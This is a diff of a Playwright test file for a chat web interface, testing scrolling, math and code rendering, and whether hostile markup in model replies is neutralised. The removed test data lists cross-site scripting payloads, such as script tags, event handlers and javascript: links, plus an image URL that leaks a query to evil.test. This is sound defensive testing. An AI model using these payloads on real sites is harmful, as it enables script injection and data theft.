@@ -1,5 +1,6 @@
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
+import { HOSTILE, PAYLOADS } from './support/hostile';
 import { numbered, shareStack } from './support/setup';
 
 const { stack, open } = shareStack();
@@ -14,13 +15,36 @@ async function distanceToEnd(page: Page): Promise<number> {
 
 test('the end is followed while a reply arrives, also a long one', async () => {
   const chat = await open();
-  stack.model.script('follow', { pieces: paragraphs(120), holdBefore: 60 });
+  const long = Array.from({ length: 200 }, (_, n) => `${n} ${'many words '.repeat(23)}\n\n`);
+  stack.model.script('follow', {
+    pieces: [...paragraphs(60), ...long, 'the end'],
+    holdBefore: 60,
+    pauseMs: 8,
+  });
   await chat.send('follow');
   await chat.page.locator('.timeline').getByText('w59').waitFor();
   await expect.poll(() => distanceToEnd(chat.page)).toBeLessThanOrEqual(8);
+  // The end is in view in every frame, not only at last.
+  await chat.page.evaluate(() => {
+    const seen = { furthest: 0, frames: 0 };
+    Object.assign(window, { seen });
+    const element = document.querySelector('section.timeline');
+    const look = (): void => {
+      if (!element) return;
+      const { scrollHeight, scrollTop, clientHeight } = element;
+      seen.furthest = Math.max(seen.furthest, scrollHeight - scrollTop - clientHeight);
+      seen.frames++;
+      requestAnimationFrame(look);
+    };
+    requestAnimationFrame(look);
+  });
   stack.model.release('follow');
-  await chat.page.locator('.timeline').getByText('w119').waitFor();
-  await expect.poll(() => distanceToEnd(chat.page)).toBeLessThanOrEqual(8);
+  await chat.page.locator('.timeline').getByText('the end').waitFor();
+  const { furthest, frames } = await chat.page.evaluate(
+    () => (window as unknown as { seen: { furthest: number; frames: number } }).seen,
+  );
+  expect(frames).toBeGreaterThan(10);
+  expect(furthest).toBeLessThanOrEqual(8);
   await chat.agrees();
   await chat.close();
 });
@@ -112,6 +136,59 @@ test('earlier messages are loaded by scrolling up, and the place is kept', async
   await chat.close();
 });
 
+test('a reply that grows in one session scrolls no other one', async () => {
+  const chat = await open();
+  const { page } = chat;
+  stack.model.script('read me', { pieces: paragraphs(150) });
+  await chat.send('read me');
+  await chat.answered();
+  const read = new URL(page.url()).pathname;
+  await page.getByRole('button', { name: 'New conversation' }).first().click();
+  stack.model.script('grow', { pieces: paragraphs(150), holdBefore: 20, pauseMs: 5 });
+  await chat.send('grow');
+  await page.locator('.timeline').getByText('w19').waitFor();
+  await page.locator(`.session-list a[href="${read}"]`).click();
+  await page.locator('.timeline').getByText('w149').waitFor();
+  await page.locator('section.timeline').hover();
+  await page.mouse.wheel(0, -700);
+  await page.getByRole('button', { name: 'To the end' }).waitFor();
+  const top = () => page.locator('section.timeline').evaluate((element) => element.scrollTop);
+  const before = await top();
+  stack.model.release('grow');
+  await page.locator('.running-mark').waitFor({ state: 'detached', timeout: 20_000 });
+  expect(await top()).toBe(before);
+  await chat.agrees();
+  await chat.close();
+});
+
+test('formulas are shown as such, and prices are not', async () => {
+  const chat = await open();
+  stack.model.script('math', {
+    pieces: ['It costs $5 and $10.\n\n$$\\frac{a}{b}$$\n\nand \\(x^2\\), \\[\\wrong{\\]'],
+  });
+  await chat.send('math');
+  await chat.answered();
+  await chat.page.locator('.math.display math mfrac').waitFor();
+  expect(await chat.page.locator('.markdown math').count()).toBe(2);
+  await chat.page.locator('.markdown').getByText('It costs $5 and $10.').waitFor();
+  await chat.agrees();
+  await chat.close();
+});
+
+test('selected code is the content of its block, also of a long one', async () => {
+  const chat = await open();
+  const code = Array.from({ length: 450 }, (_, n) => `line(${n});${n % 7 ? '' : '\n'}`).join('\n');
+  stack.model.script('long code', { pieces: [`\`\`\`\n${code}\n\`\`\``] });
+  await chat.send('long code');
+  await chat.answered();
+  await chat.page.locator('.code code').selectText();
+  const selected = await chat.page.evaluate(() => String(getSelection()));
+  expect(selected.replace(/\n$/, '')).toBe(code);
+  await chat.page.evaluate(() => getSelection()?.removeAllRanges());
+  await chat.agrees();
+  await chat.close();
+});
+
 test('copying gives the source of a message and of a code block, to the byte', async () => {
   const chat = await open();
   const code = 'def f(x):\n\treturn x  # 中文\n';
@@ -134,22 +211,8 @@ test('copying gives the source of a message and of a code block, to the byte', a
 
 test('hostile markup runs nothing, loads nothing and links nowhere', async () => {
   const chat = await open();
-  const payloads = [
-    '<script>window.hacked = 1</script>',
-    '<img src=x onerror="window.hacked = 1">',
-    '<svg onload="window.hacked = 1">',
-    '<iframe src="javascript:window.hacked=1"></iframe>',
-    '[click](javascript:window.hacked=1)',
-    '[click](JaVaScRiPt:window.hacked=1)',
-    '[click](data:text/html,<script>1</script>)',
-    '![x](https://evil.test/?q=secret)',
-    '<a href="javascript:window.hacked=1">x</a>',
-    '[ref]\n\n[ref]: javascript:window.hacked=1',
-    '<https://evil.test/"onmouseover="window.hacked=1>',
-    '<style>*{display:none}</style>',
-    '[good](https://example.org/a)',
-  ];
-  stack.model.script('attack', { pieces: payloads.map((payload) => `${payload}\n\n`) });
+  const pieces = [...PAYLOADS, '[good](https://example.org/a)', '[look](https://аpple.com/)'];
+  stack.model.script('attack', { pieces: pieces.map((payload) => `${payload}\n\n`) });
   const foreign: string[] = [];
   chat.page.on('request', (request) => {
     if (!request.url().startsWith(stack.url) && !request.url().startsWith('data:')) {
@@ -161,7 +224,29 @@ test('hostile markup runs nothing, loads nothing and links nowhere', async () =>
   await chat.send('<b>own</b> <script>window.hacked = 1</script>');
   await chat.page.locator('.timeline').getByText('Answer to: <b>own</b>').waitFor();
   await chat.answered();
-  expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
+  // As a title, in the list, in the address bar's title, and in a search, too.
+  const title = PAYLOADS[2] ?? '';
+  await chat.api(`/sessions/${chat.sessionId()}`, {
+    method: 'PATCH',
+    body: JSON.stringify({ title }),
+  });
+  await chat.page.locator('.bar h1').getByText(title).waitFor();
+  await chat.page.locator('.session-list').getByText(title).waitFor();
+  const isHarmless = async () => {
+    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
+    const found = await chat.page
+      .locator(
+        ':is(.message, .sidebar, dialog) :is(script, img[src^=h], svg:not(.icon), iframe, style, object, embed, form)',
+      )
+      .count();
+    expect(found).toBe(0);
+  };
+  await isHarmless();
+  await chat.page.keyboard.press('Control+K');
+  await chat.page.getByRole('searchbox').fill('hacked');
+  await chat.page.locator('.hits a').first().waitFor();
+  await isHarmless();
+  await chat.page.keyboard.press('Escape');
   const links = await chat.page
     .locator('.message a')
     .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
@@ -170,9 +255,10 @@ test('hostile markup runs nothing, loads nothing and links nowhere', async () =>
     expect(href).toMatch(/^(https?:|mailto:)/);
     expect(rel).toBe('noopener noreferrer nofollow');
   }
-  expect(
-    await chat.page.locator('.message :is(script, img, svg:not(.icon), iframe, style)').count(),
-  ).toBe(0);
+  // A remote image is a link with its host; a look-alike host shows its letters.
+  await chat.page.getByRole('link', { name: 'x (evil.test)' }).first().waitFor();
+  const look = chat.page.getByRole('link', { name: 'look', exact: true });
+  expect(await look.getAttribute('title')).toBe('xn--pple-43d.com');
   expect(foreign).toEqual([]);
   await chat.agrees();
   await chat.close();
@@ -180,14 +266,6 @@ test('hostile markup runs nothing, loads nothing and links nowhere', async () =>
 
 test('replies that hold a parser for seconds do not hold the page', async () => {
   const chat = await open();
-  const replies = {
-    'one line': 'x y '.repeat(25_000),
-    'Windows paths': 'C:\\Users\\_a_\\b '.repeat(6_000),
-    'nested quotes': `${'> '.repeat(2_000)}deep`,
-    'deep list': Array.from({ length: 300 }, (_, n) => `${'  '.repeat(n)}- x`).join('\n'),
-    backticks: Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join(' '),
-    fences: '```\nx\n```\n\n'.repeat(1_500),
-  };
   await chat.page.evaluate(() => {
     const seen = { worst: 0 };
     Object.assign(window, { seen });
@@ -195,8 +273,8 @@ test('replies that hold a parser for seconds do not hold the page', async () => 
       for (const entry of list.getEntries()) seen.worst = Math.max(seen.worst, entry.duration);
     }).observe({ entryTypes: ['longtask'] });
   });
-  for (const [name, text] of Object.entries(replies)) {
-    const pieces = text.match(/[\s\S]{1,4000}/g) ?? [];
+  for (const [name, text] of Object.entries(HOSTILE)) {
+    const pieces = text.match(/[\s\S]{1,4000}/gu) ?? [];
     stack.model.script(name, { pieces });
     await chat.send(name);
     await expect
@@ -208,6 +286,9 @@ test('replies that hold a parser for seconds do not hold the page', async () => 
       )
       .toBe(text);
     await chat.answered();
+    await chat.page.locator('section.timeline').hover();
+    await chat.page.mouse.wheel(0, -5000);
+    await chat.page.mouse.wheel(0, 100_000);
   }
   const worst = await chat.page.evaluate(
     () => (window as unknown as { seen: { worst: number } }).seen.worst,
